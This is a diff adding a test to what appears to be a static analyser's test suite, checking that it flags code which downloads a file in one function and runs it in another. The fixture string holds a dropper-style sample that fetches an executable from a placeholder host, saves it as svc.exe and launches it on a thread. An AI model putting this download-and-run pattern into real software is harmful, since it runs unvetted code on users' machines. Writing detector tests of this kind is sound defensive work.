@@ -328,3 +328,35 @@ def test_installing_from_a_url_on_load_runs_unvetted_code() -> None:
     assert found and found[0].top_level is True
     assert not matching(result, "remoteCodeDownload", 4)  # a registry name
     assert not matching(result, "remoteCodeDownload", 7)  # only when a user asks for it
+
+
+ACROSS_FUNCTIONS = """\
+import os, subprocess, threading
+import requests
+
+path = os.environ["LOCALAPPDATA"] + "\\\\svc.exe"
+NOTES = os.path.join(os.environ["TMP"], "notes.txt")
+
+def fetch():
+    response = requests.get("https://cdn.example.invalid/a.exe")
+    with open(path, "wb") as handle:
+        handle.write(response.content)
+    with open(NOTES, "w") as handle:
+        handle.write(requests.get("https://api.example.invalid/motd").text)
+
+def start():
+    subprocess.run(path, shell=True)
+
+def show():
+    subprocess.run(["less", NOTES])
+
+fetch()
+threading.Thread(target=start).start()
+"""
+
+
+def test_download_written_by_one_function_and_run_by_another() -> None:
+    result = analyze(ACROSS_FUNCTIONS)
+    found = matching(result, "remoteCodeDownload", 15, pattern="download-write-run")
+    assert found and "path" in found[0].props["detail"]
+    assert not matching(result, "remoteCodeDownload", 18)  # the file is read, not run
